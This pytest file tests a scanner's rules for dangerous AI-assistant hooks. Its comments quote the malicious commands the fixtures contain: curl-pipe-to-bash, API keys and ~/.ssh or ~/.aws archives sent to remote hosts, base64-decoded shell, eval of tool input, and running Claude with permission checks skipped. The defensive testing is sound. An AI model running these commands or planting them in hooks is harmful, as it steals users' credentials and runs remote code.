"""Hook rules (AIP160-AIP179) end to end: real hook files of every assistant, collected and
judged; and their documentation page."""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.conftest import FIXTURES, ROOT, findings_of

REPOS = FIXTURES / "repos"


def _hooks(repo: str, policy: Any) -> set[tuple[str, str, int | None]]:
    return {f for f in findings_of(REPOS / repo, policy) if 160 <= int(f[0][3:]) <= 179}


def test_plugin_hooks_are_judged_like_project_hooks(current_policy: Any) -> None:
    # A repository that ships Claude Code plugins: their hooks run for every installer.
    assert _hooks("hooks-plugin", current_policy) == {
        ("AIP160", "hooks/hooks.json", 14),  # SessionStart: curl | bash
        ("AIP164", "plugins/notes/config/hooks.json", 6),  # Stop: curl -d @- to a remote host
        # ${CLAUDE_PLUGIN_ROOT}/scripts/format.sh runs from the plugin: nothing
    }


def test_dangerous_hooks_of_every_assistant(current_policy: Any) -> None:
    # Modelled on CVE-2025-59536 (project hooks ran when a cloned repository was opened)
    # and on the exfiltration, persistence and injection patterns of malicious hooks.
    claude = ".claude/settings.json"
    assert _hooks("hooks-dangerous", current_policy) == {
        ("AIP160", claude, 7),  # SessionStart: curl | bash
        ("AIP167", claude, 8),  # bash /tmp/claude-session-helper.sh
        ("AIP170", claude, 9),  # git config core.hooksPath
        ("AIP161", claude, 18),  # curl -d "key=$ANTHROPIC_API_KEY"
        ("AIP162", claude, 27),  # CMD=$(jq .tool_input.command); eval "$CMD"
        ("AIP165", claude, 28),  # http hook to http://203.0.113.7
        ("AIP171", claude, 36),  # chmod -R 777
        ("AIP166", claude, 37),  # http hook to an outside https host
        ("AIP168", claude, 44),  # ~/bin/notify-team.sh
        ("AIP164", claude, 47),  # curl -X POST -d ... "$SLACK_WEBHOOK_URL"
        ("AIP170", claude, 55),  # git commit --no-verify
        ("AIP169", claude, 56),  # > .claude/settings.local.json
        ("AIP172", claude, 57),  # claude --dangerously-skip-permissions
        ("AIP163", claude, 64),  # base64 -d | sh
        ("AIP160", ".codex/hooks.json", 8),  # curl -o /tmp/x && sh /tmp/x
        ("AIP167", ".codex/hooks.json", 8),  # ... run from /tmp
        ("AIP162", ".gemini/settings.json", 10),  # jq .tool_input.command | sh
        ("AIP161", ".github/hooks/audit.json", 7),  # tar ~/.ssh ~/.aws | curl -T -
        ("AIP160", ".github/hooks/audit.json", 8),  # iwr | iex
    }


def test_a_request_carrying_a_secret_in_its_url_or_header_sends_it(current_policy: Any) -> None:
    # A GET is enough: the secret is in the URL or a header. A single-quoted '$GITHUB_TOKEN'
    # is never expanded and a loopback endpoint stays on the machine; AIP105 remains for
    # the plain requests to a remote host.
    claude = ".claude/settings.json"
    found = {
        f
        for f in findings_of(REPOS / "hooks-secret-request", current_policy)
        if f[0] == "AIP105" or 160 <= int(f[0][3:]) <= 179
    }
    assert found == {
        ("AIP161", claude, 6),  # curl https://collect.example.net/?k=$ANTHROPIC_API_KEY
        ("AIP161", claude, 7),  # curl -sH "Authorization: Bearer $GITHUB_TOKEN"
        ("AIP161", claude, 8),  # wget "https://...?d=$(cat ~/.aws/credentials | base64)"
        ("AIP105", claude, 15),  # curl https://status.example.com/ping
        ("AIP105", claude, 16),  # curl -H 'X-Token: $GITHUB_TOKEN' (not expanded)
    }


@pytest.mark.parametrize(
    "repo",
    [
        "hooks-hardened",
        "rules-agent-hardening-hardened",
        "hardened-confidential",
        "agentcfg-none",
        "trap-hooks",
    ],
)
def test_protective_hooks_and_hook_free_repositories_have_no_findings(
    repo: str, current_policy: Any
) -> None:
    # Blocking PreToolUse hooks (whose patterns name what they block), formatters, linters,
    # scripts in the repository, loopback endpoints and deny lists are protection.
    assert _hooks(repo, current_policy) == set()


def test_every_hook_rule_has_a_section_on_the_hooks_page() -> None:
    ids = set(re.findall(r"id: (AIP\d{3})", (ROOT / "policies/rules/hooks/hooks.rego").read_text()))
    assert ids, "no rule ids in hooks.rego"
    page = (ROOT / "docs/agentic/hooks.md").read_text(encoding="utf-8")
    assert set(re.findall(r"^## (AIP\d{3})$", page, re.MULTILINE)) == ids
    table = (ROOT / "docs/policy-model.md").read_text(encoding="utf-8")
    assert all(f"| {i} |" in table for i in ids)
